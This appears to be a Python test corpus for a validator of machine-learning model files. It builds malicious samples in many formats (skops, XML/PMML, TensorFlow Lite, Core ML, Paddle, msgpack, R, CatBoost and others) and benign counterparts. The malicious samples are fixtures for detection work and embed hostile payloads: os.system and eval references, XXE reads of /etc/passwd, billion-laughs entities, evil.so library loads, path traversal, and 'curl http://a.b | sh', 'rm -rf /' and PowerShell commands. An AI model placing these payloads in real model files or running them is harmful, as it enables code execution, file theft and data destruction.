"""Formats with a small reader each: skops, XML models, TensorFlow Lite, Core ML, Paddle, Flax, R …."""

import gzip
import json

from tests.validators.formats.corpus.case import Case
from tests.validators.formats.corpus.code_files import dump, zipped
from tests.validators.formats.corpus.flat import number, root
from tests.validators.formats.corpus.wire import Value, field, message


def node(module: object, name: object, loader: str = "ObjectNode", **more: object) -> object:
    """Describe an object as skops does."""
    return {"__module__": module, "__class__": name, "__loader__": loader, "content": None} | more


def skops(value: object, **members: bytes) -> dict[str, bytes]:
    """Write a model of skops."""
    more = [(name.replace("_", "."), data) for name, data in members.items()]
    return {"m.skops": zipped(("schema.json", dump(value)), *more)}


FUNCTION = {"module_path": "os", "function": "system"}
SKOPS: dict[str, tuple[str, dict[str, bytes]]] = {
    "os": ("skops-type", skops(node("os", "system"))),
    "builtins": ("skops-type", skops(node("builtins", "eval", "FunctionNode"))),
    "deep": (
        "skops-type",
        skops(node("sklearn.pipeline", "Pipeline", steps=[node("os", "system")])),
    ),
    "unknown": ("skops-type", skops(node("my_package", "Model"))),
    "no-text": ("skops-type", skops(node(["os"], "system"))),
    "numpy-inner": ("skops-type", skops(node("numpy.f2py.diagnose", "run_command"))),
    "operator": ("skops-call", skops(node("operator", "methodcaller", "OperatorFuncNode"))),
    "operator-trusted": ("skops-call", skops(node("sklearn.svm", "SVC", "OperatorFuncNode"))),
    "method": ("skops-call", skops(node("sklearn.svm", "SVC", "MethodNode"))),
    "loader": ("skops-call", skops(node("sklearn.svm", "SVC", "EvilNode"))),
    "function": ("skops-call", skops(node("numpy", "ufunc", "FunctionNode", content=FUNCTION))),
    "named-part": ("skops-call", skops({}, data_json=b'{"node_type": "OperatorFuncNode"}')),
    "twice": ("duplicate-name", {"m.skops": zipped(("schema.json", b'{"a": 1, "a": 2}'))}),
    "broken": ("skops-unreadable", {"m.skops": zipped(("schema.json", b"{"))}),
    "no-zip": ("not-skops", {"m.skops": b"corrupt"}),
}

NET = "<?xml version='1.0'?><net name='n' version='11'><layers>{}</layers></net>"
INPUT = "<layer id='0' name='x' type='Parameter' version='opset1'/>"
ENTITY = "<!DOCTYPE {} [<!ENTITY x {}>]>"
FILE = ENTITY.format("PMML", "SYSTEM 'file:///etc/passwd'")
PMML = "<PMML version='4.4'><Header>{}</Header></PMML>"
LAUGHS = "<!DOCTYPE a [<!ENTITY a 'x'><!ENTITY b '&a;&a;'>]><a>&b;</a>"
XML: dict[str, tuple[str, dict[str, bytes]]] = {
    "entity": ("xml-entity", {"m.pmml": (FILE + PMML.format("&x;")).encode()}),
    "entity-wide": ("xml-entity", {"m.pmml": (FILE + PMML).encode("utf-16")}),
    "entity-wide-unmarked": ("xml-entity", {"m.xml": (FILE + PMML).encode("utf-16-le")}),
    "entity-public": (
        "xml-entity",
        {"m.xml": (ENTITY.format("net", "PUBLIC 'a' 'http://a.b'") + NET).encode()},
    ),
    "entity-parameter": (
        "xml-entity",
        {"m.xml": (ENTITY.format("net", "% p SYSTEM 'http://a.b/x.dtd'") + NET).encode()},
    ),
    "entity-own": ("xml-entity", {"m.xml": (ENTITY.format("net", "'y'") + NET).encode()}),
    "laughs": ("xml-entity", {"any.xml": LAUGHS.encode()}),
    "external-type": (
        "xml-entity",
        {"m.xml": ("<!DOCTYPE net SYSTEM 'http://a/b'>" + NET).encode()},
    ),
    "include": ("xml-entity", {"m.pmml": PMML.format("<xi:include href='/etc/passwd'/>").encode()}),
    "encoding": (
        "xml-encoding",
        {"m.pmml": b"<?xml version='1.0' encoding='UTF-7'?><PMML></PMML>"},
    ),
    "script": (
        "code-text",
        {"m.pmml": PMML.format("<Extension><script>eval('x')</script></Extension>").encode()},
    ),
    "library": (
        "native-library",
        {"m.xml": NET.format("<layer id='1' type='X' library='./evil.so'/>").encode()},
    ),
    "custom": (
        "custom-operator",
        {"m.xml": NET.format("<layer id='1' type='Evil' version='extension'/>").encode()},
    ),
    "weights": (
        "offset-range",
        {
            "m.xml": NET.format(
                '<layer type="Const"><data offset="8" size="99"/></layer>'
            ).encode(),
            "m.bin": b"12",
        },
    ),
}


def tflite(*codes: tuple[Value, ...], description: str = "") -> bytes:
    """Write a model of TensorFlow Lite with these operator codes and no graph."""
    return root([3, [list(code) for code in codes], [], description, []], b"TFL3")


def custom(name: str) -> tuple[Value, ...]:
    """Describe a custom operator."""
    return (32, name, 1, 32)


GOOD_TFLITE = tflite((9, None, 1, 9), custom("TFLite_Detection_PostProcess"), custom("FlexErf"))
TFLITE: dict[str, tuple[str, bytes]] = {
    "custom": ("custom-operator", tflite((3, None, 1, 3), custom("EvilOp"))),
    "custom-nameless": ("custom-operator", tflite((32, None, 1, 32))),
    "custom-old": ("custom-operator", tflite((32, "EvilOp", 1))),
    "flex-file": ("file-operator", tflite(custom("FlexReadFile"))),
    "flex-write": ("file-operator", tflite(custom("FlexWriteFile"))),
    "flex-python": ("python-operator", tflite(custom("FlexEagerPyFunc"))),
    "flex-unknown": ("custom-operator", tflite(custom("FlexEvil"))),
    "text": ("code-text", tflite(description="import os; os.system('true')")),
    "root": ("malformed-flatbuffer", number(1 << 30) + b"TFL3" + b"\0" * 60),
    "offsets": ("malformed-flatbuffer", root([3, b"\xff\xff\xff\x7f" * 4], b"TFL3")),
    "none": ("not-tflite", b"something else entirely"),
}


def coreml(*fields: tuple[int, Value]) -> bytes:
    """Write a model of Core ML."""
    return field(1, 4) + message(*fields)


CLASS = field(10, "EvilClass")
LAYER = message((1, "custom"), (500, CLASS))
LINK = message((1, message((1, field(1, "../outside.mlmodel")))))
COREML: dict[str, tuple[str, bytes]] = {
    "layer": ("custom-operator", coreml((500, field(1, LAYER)))),
    "layer-classifier": ("custom-operator", coreml((403, field(1, LAYER)))),
    "layer-regressor": ("custom-operator", coreml((303, field(1, LAYER)))),
    "model": ("custom-operator", coreml((555, CLASS))),
    "pipeline": ("custom-operator", coreml((202, field(1, coreml((555, CLASS)))))),
    "pipeline-classifier": (
        "custom-operator",
        coreml((200, field(1, field(1, coreml((555, CLASS)))))),
    ),
    "link": ("path-leaves-model", coreml((556, LINK))),
    "text": ("code-text", coreml((2, "python -c 'import os; os.system(1)'"))),
    "none": ("not-coreml", field(2, "x")),
    "broken": ("malformed-protobuf", b"corrupt"),
}


def paddle(*operators: str) -> bytes:
    """Write a program of Paddle."""
    return field(1, message(*((4, field(3, name)) for name in operators)))


PADDLE: dict[str, tuple[str, dict[str, bytes]]] = {
    "python": ("python-operator", {"m.pdmodel": paddle("feed", "py_func", "fetch")}),
    "layer": ("python-operator", {"m.pdmodel": paddle("py_layer")}),
    "second-block": ("python-operator", {"m.pdmodel": paddle("relu") + paddle("py_func")}),
    "load": ("file-operator", {"__model__": paddle("load")}),
    "save": ("file-operator", {"m.pdmodel": paddle("save_combine")}),
    "server": ("file-operator", {"m.pdmodel": paddle("listen_and_serv")}),
    "json": (
        "python-operator",
        {"inference.json": dump({"base_code": {"magic": "pir"}, "ops": [{"#": "1.py_func"}]})},
    ),
    "broken": ("malformed-protobuf", {"m.pdmodel": b"dummy"}),
    "text": ("code-text", {"m.pdiparams": b"\0\0\0\0 import os; os.system('true')"}),
}

MSGPACK: dict[str, tuple[str, bytes]] = {
    "extension": ("msgpack-extension", b"\x81\xa1a\xd4\x2ax"),
    "extension-long": ("msgpack-extension", b"\x81\xa1a\xc7\x05\x63" + b"x" * 5),
    "object": ("msgpack-object", b"\x81\xaa__reduce__\xa1x"),
    "trailing": ("trailing-bytes", b"\x81\xa1a\x01more"),
    "lying": ("lying-length", b"\xc6\xff\xff\xff\xff"),
    "lying-count": ("lying-length", b"\xdf\xff\xff\xff\xff"),
    "deep": ("malformed-msgpack", b"\x91" * 2000 + b"\xc0"),
    "code": ("malformed-msgpack", b"\xc1"),
    "text": ("code-text", b"\x81\xa1a\xd9\x20" + b"import os; os.system('rm -rf /')"),
}


def r_symbol(name: bytes) -> bytes:
    """Write a call of a function by its name, as R's binary format has it."""
    length = len(name).to_bytes(4, "big")
    return b"\0\0\0\6\0\0\0\1\0\4\0\x09" + length + name + b"\0\0\0\xfe"


R = b"X\n\0\0\0\3\0\4\3\1\0\3\5\0\0\0\0\5UTF-8"
SERIALIZED: dict[str, tuple[str, dict[str, bytes]]] = {
    "r": ("r-object", {"m.rds": R + b"\0\0\0\x0e\0\0\0\1" + b"\0" * 8}),
    "r-gzip": ("r-object", {"m.rds": gzip.compress(R, mtime=0)}),
    "r-workspace": ("r-object", {"m.RData": b"RDX3\n" + R}),
    "r-text": ("r-object", {"m.rds": b"A\n3\n262144\n197888\n5\nUTF-8\n"}),
    "r-system": ("r-code", {"m.rds": gzip.compress(R + r_symbol(b"system"), mtime=0)}),
    "r-source": ("r-code", {"m.rda": b"RDX2\n" + R + r_symbol(b"source")}),
    "r-text-system": (
        "r-code",
        {"m.rds": b"A\n3\n262144\n1\n5\nUTF-8\n6\n1\n262153\n6\nsystem\n254\n"},
    ),
    "engine": ("engine", {"m.engine": b"ftrt" + b"\0" * 40}),
    "engine-named-otherwise": ("engine", {"m.bin": b"ftrt" + b"\0" * 40}),
    "caffe": ("python-operator", {"m.prototxt": b"layer { type: 'Python' python_param {} }"}),
    "mxnet-custom": (
        "custom-operator",
        {"m-symbol.json": dump({"nodes": [{"op": "Custom", "name": "x"}]})},
    ),
    "mxnet-library": (
        "native-library",
        {"m-symbol.json": dump({"nodes": [{"op": "x", "attrs": {"library": "../evil.so"}}]})},
    ),
}

PAYLOAD = b"\0\1\2 python -c \"import os; os.system('curl http://a.b/x | sh')\" \0"
TREE = b"tree\nversion=v4\nnum_class=1\nmax_feature_idx=0\n"
TEXTS = {
    "catboost": {"m.cbm": b"CBM1" + PAYLOAD},
    "cntk": {"m.dnn": b"B\0C\0N\0" + PAYLOAD},
    "rknn": {"m.rknn": b"RKNN" + b"\0 cmd.exe /c curl http://a.b && powershell -enc AAAA"},
    "torch7": {"m.t7": b"\4\0\0\0 os.execute('curl http://a.b | sh')"},
    "lightgbm": {"m.model": TREE + b"notes=__import__('os').system('true')\n"},
    "xgboost": {"m.bst": b"binf" + PAYLOAD},
    "xgboost-json": {"m.json": dump({"learner": {"note": "subprocess.run(['true'])"}})},
    "raw": {"m.bin": b"\0\0\0\0import os\nos.system('x')"},
    "config": {"config.json": dump({"model_type": "x", "hook": "rm -rf / && true"})},
    "end": {"m.weights": b"\0" * (3 << 20) + b"<script>fetch('http://a.b')</script>"},
}


def malicious() -> list[Case]:
    """Give every file that must be refused under ``safe-only``."""
    by_files = {"skops": SKOPS, "xml": XML, "paddle": PADDLE, "serialized": SERIALIZED}
    by_data = {"tflite": TFLITE, "mlmodel": COREML, "msgpack": MSGPACK}
    return [
        *(
            Case(f"{kind}/{name}", files, rule)
            for kind, cases in by_files.items()
            for name, (rule, files) in cases.items()
        ),
        *(
            Case(f"{kind}/{name}", {f"m.{kind}": data}, rule)
            for kind, files in by_data.items()
            for name, (rule, data) in files.items()
        ),
        Case(
            "mlmodel/package",
            {"m.mlpackage/Manifest.json": dump({"itemInfoEntries": {"A": {"path": "../../x"}}})},
            "path-leaves-model",
        ),
        *(Case(f"texts/{name}", files, "code-text") for name, files in TEXTS.items()),
    ]


PIPELINE = node(
    "sklearn.pipeline",
    "Pipeline",
    content=[
        node("builtins", "str", "JsonNode", content='"scaler"'),
        node("sklearn.preprocessing._data", "StandardScaler"),
        node("numpy", "float64", "TypeNode"),
        node("numpy", "ndarray", "NdArrayNode", type="numpy", file="1.npy"),
        node("scipy.sparse._csr", "csr_matrix", "SparseMatrixNode"),
    ],
)
TOKENIZER = "<layer id='1' type='SentencepieceTokenizer' version='extension'/>"
SVG = "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://a.b'><svg/>"
SYMBOL = {
    "nodes": [{"op": "null", "name": "data"}, {"op": "Convolution", "attrs": {"kernel": "3"}}]
}
LEARNER = {"version": [3, 0, 0], "learner": {"attributes": {}, "feature_names": ["eval", "exec"]}}


def benign() -> list[Case]:
    """Give ordinary files of the same formats."""
    dense = message((1, "dense"), (140, b"\0" * 16))
    linked = message((1, message((1, field(1, "part.mlmodel")))))
    packed = b"\x93\x91\x01\xa7float32\xc4\x04" + b"\0" * 4
    array = b"\x81\xa1a\xc7" + bytes([len(packed)]) + b"\x01" + packed
    return [
        Case("skops/pipeline", skops(PIPELINE)),
        Case("xml/net", {"m.xml": NET.format(INPUT).encode(), "m.bin": b"x"}),
        Case("xml/old-net", {"m.xml": b"<net version='7'><layer id='0' type='Input'/></net>"}),
        Case("xml/tokenizer", {"openvino_tokenizer.xml": NET.format(TOKENIZER).encode()}),
        Case("xml/pmml", {"m.pmml": PMML.format("<Extension name='a'/>").encode()}),
        Case("xml/other", {"a.xml": b"<?xml version='1.0'?><a>eval</a>", "b.svg": SVG.encode()}),
        Case("tflite/model", {"m.tflite": GOOD_TFLITE}),
        Case("coreml/network", {"m.mlmodel": coreml((500, field(1, dense)))}),
        Case("coreml/linked", {"m.mlmodel": coreml((556, linked)), "part.mlmodel": coreml()}),
        Case(
            "coreml/package",
            {
                "m.mlpackage/Manifest.json": dump(
                    {"itemInfoEntries": {"A": {"path": "com.apple/m"}}}
                )
            },
        ),
        Case("paddle/program", {"m.pdmodel": paddle("feed", "matmul_v2", "relu", "fetch")}),
        Case("flax/array", {"flax_model.msgpack": array}),
        Case(
            "flax/values",
            {"m.msgpack": b"\x83\xa1a\xc0\xa1b\xcb" + b"\0" * 8 + b"\xa1c\x92\x01\xff"},
        ),
        Case(
            "texts/config", {"tokenizer_config.json": dump({"chat_template": "run os.system('x')"})}
        ),
        Case("texts/catboost", {"m.cbm": b"CBM1 the system will exec and eval nothing"}),
        Case("texts/lightgbm", {"m.txt": TREE}),
        Case("texts/xgboost", {"m.json": json.dumps(LEARNER).encode()}),
        Case("mxnet/symbol", {"m-symbol.json": dump(SYMBOL), "m-0000.params": b"\x12\1\0\0" * 9}),
    ]
